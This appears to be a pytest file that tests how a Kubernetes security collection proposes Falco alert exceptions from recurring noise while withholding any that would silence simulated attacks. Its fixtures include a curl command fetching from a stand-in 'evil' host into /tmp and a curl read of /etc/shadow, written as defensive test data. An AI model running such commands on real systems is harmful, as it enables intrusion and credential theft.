# Copyright (c) 2026, the runtime_security.kubernetes authors
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Exceptions from made-up pasts in which attacks hide in noise: all of the noise is proposed, and no attack."""

from __future__ import annotations

import random
from pathlib import Path

import pytest
import yaml
from ansible_collections.runtime_security.kubernetes.plugins.module_utils.falco import (
    exceptions,
    exceptions_info,
    noise,
)

TOP = Path(__file__).parents[4]
SHIPPED = (TOP / "roles/falco_ebpf/files/rules/runtime_security_rules.yaml").read_text(encoding="utf-8")
RULES = {rule.name: rule for rule in exceptions.rules_of([SHIPPED])}
SHELL, DOWNLOAD, READ = (
    "Terminal shell in container",
    "Launch Ingress Remote File Copy Tools in Container",
    "Read sensitive file untrusted",
)
WEB = {
    "k8s.ns.name": "shop",
    "container.image.repository": "registry.example.com/shop/web",
    "proc.exepath": "/usr/bin/curl",
    "proc.pname": "sh",
    "user.name": "app",
    "proc.name": "curl",
    "fd.name": "/etc/shadow",
    "proc.cmdline": "curl http://localhost/health",
}


def seen(rule, pod, day, count=1, **fields):
    return noise.Seen(
        rule,
        {**WEB, "k8s.pod.name": pod, **{key.replace("__", "."): value for key, value in fields.items()}},
        day,
        count,
    )


def often(rule, **fields):
    """In three pods of a Deployment, on each day of a week."""
    return [seen(rule, f"web-7d9f8c6b5d-x2x4{number}", day, 10, **fields) for number in range(3) for day in range(7)]


def outcome_of(past, highest="error"):
    return noise.proposals(list(RULES.values()), past, highest)


def test_the_shipped_exceptions_are_known():
    assert {name: [one.name for one in rule.exceptions] for name, rule in RULES.items()} == {
        SHELL: ["namespace_and_pod"],
        "Launch Package Management Process in Container": ["image_and_program"],
        DOWNLOAD: ["image_and_address"],
        READ: ["program_and_file"],
        "Write below etc": ["image_and_file"],
        "Contact K8S API Server From Container": ["image", "pod_and_process", "namespace_and_image"],
    }


@pytest.mark.parametrize("rule", RULES)
def test_noise_of_each_shipped_rule_is_proposed(rule):
    proposed, withheld = outcome_of(often(rule))
    assert [(one.rule, one.events, one.pods, one.days) for one in proposed] == [(rule, 210, 3, 7)]
    assert withheld == []


def test_pods_of_a_controller_are_one_value():
    (found,), _withheld = outcome_of(often(SHELL))
    assert found.values == ("shop", "web-")


@pytest.mark.parametrize(
    "past",
    [
        [seen(READ, "web-1", day) for day in range(7)],
        [seen(READ, f"web-{pod}", 3) for pod in range(7)],
        [seen(READ, "", day, host="n1") for day in range(7)],
    ],
    ids=["one pod", "one day", "no pod"],
)
def test_what_was_seen_in_one_place_or_once_is_no_noise(past):
    assert outcome_of(past) == ([], [])


@pytest.mark.parametrize(
    "attack",
    [
        {"k8s__ns__name": "bank"},
        {"container__image__repository": "docker.io/library/web"},
        {"proc__exepath": "/tmp/curl"},
        {"proc__pname": "python3"},
        {"user__name": "root"},
    ],
)
def test_an_attack_that_looks_like_noise_withholds_the_exception(attack):
    proposed, (withheld,) = outcome_of([*often(READ), seen(READ, "web-7d9f8c6b5d-x2x40", 4, 2, **attack)])
    assert proposed == []
    assert withheld.reason.startswith("it would also silence 2 events that were seen in one pod")


def test_what_a_value_matches_beyond_itself_counts():
    attack = seen(
        DOWNLOAD, "web-7d9f8c6b5d-x2x40", 4, proc__cmdline="curl http://localhost/health -o /tmp/x http://evil"
    )
    assert outcome_of([*often(DOWNLOAD), attack])[0] == []
    shell = seen(SHELL, "web-evil", 4)
    assert outcome_of([*often(SHELL), shell])[0] == []


def test_rules_above_the_priority_are_left_alone():
    past = often("Write below etc") + often(READ)
    assert {one.rule for one in outcome_of(past, "warning")[0]} == {READ}
    assert outcome_of(past, "notice") == ([], [])


@pytest.mark.parametrize("value", ['sh -c "x"', "curl -u a:***"])
def test_what_falco_would_not_match_is_withheld(value):
    proposed, (withheld,) = outcome_of(often(DOWNLOAD, proc__cmdline=value))
    assert proposed == []
    assert "Falco would not match it" in withheld.reason


def test_a_thousand_pasts():
    """Of noise in several images, and an attack somewhere that differs in one field from one of them."""
    choice = random.Random(7)
    for _past in range(1000):
        images = [f"registry.example.com/{name}" for name in choice.sample("abcdefgh", 4)]
        past = [
            one for image in images for one in often(READ, container__image__repository=image, proc__name=image[-1])
        ]
        image = choice.choice(images)
        odd = {"container__image__repository": image, "proc__name": image[-1]}
        odd[
            choice.choice(["proc__exepath", "proc__pname", "user__name", "k8s__ns__name", "fd__name", "proc__name"])
        ] = "odd"
        attack = seen(READ, "web-7d9f8c6b5d-x2x40", choice.randrange(7), **odd)
        proposed, _withheld = outcome_of([*past, attack])
        assert not any(one.exception.fits(one.values, attack.fields) for one in proposed)
        # The noise of the others is proposed.
        assert {one.values[0] for one in proposed} >= {other[-1] for other in images if other != image}


def test_the_file_appends_to_the_exceptions():
    proposed, _withheld = outcome_of(often(READ) + often(SHELL))
    text = exceptions_info.content(proposed, 7)
    entries = {entry["rule"]: entry for entry in yaml.safe_load(text)}
    assert entries[READ]["exceptions"] == [{"name": "program_and_file", "values": [[["curl"], ["/etc/shadow"]]]}]
    assert entries[SHELL]["exceptions"] == [{"name": "namespace_and_pod", "values": [["shop", "web-"]]}]
    assert entries[SHELL]["override"] == {"exceptions": "append"}
    assert "# 210 events, 3 pods, 7 days" in text
    assert exceptions_info.content([], 7) == ""


def test_values_that_are_there_stay_quiet():
    """A file of the user's that adds values changes nothing of the fields."""
    added = "- rule: A\n  exceptions:\n    - name: e\n      values: [[a]]\n  override: {exceptions: append}\n"
    first = "- rule: A\n  condition: c\n  priority: NOTICE\n  exceptions:\n    - {name: e, fields: [proc.name], comps: ['=']}\n"
    (rule,) = exceptions.rules_of([first, added])
    assert (rule.priority, [one.fields for one in rule.exceptions]) == ("notice", [("proc.name",)])
    other = "- rule: A\n  exceptions:\n    - {name: e, fields: [proc.name], comps: [regex]}\n"
    assert exceptions.rules_of([other]) == []
